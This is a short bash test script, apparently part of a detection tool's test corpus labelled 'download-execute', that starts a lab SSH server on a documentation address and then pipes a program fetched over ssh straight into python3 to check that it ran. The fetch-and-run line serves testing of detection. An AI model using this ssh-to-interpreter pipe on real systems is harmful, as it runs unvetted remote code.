#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=ssh,python3 far=out ready=out:2022 seconds=16 parts=dns
# ssh reads a program from a host outside, and Python runs it as it comes over the pipe.
# shellcheck disable=SC1091,SC2154 # far/ssh.sh, far/ssh.sh has it
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = out ]; then ssh_keys; printf '%s\n' 'import os, time' 'open(os.environ["LAB"] + "/ran", "w").write(str(os.getuid())); time.sleep(4)' >"$LAB/agent"; exec timeout 30 "${sshd[@]}" -o ListenAddress=203.0.113.66 -p 2022; fi
sleep 1; timeout 12 ssh "${ssh[@]}" -p 2022 root@203.0.113.66 "cat $LAB/agent" | timeout 12 python3 -; sleep 1; [ -s "$LAB/ran" ]
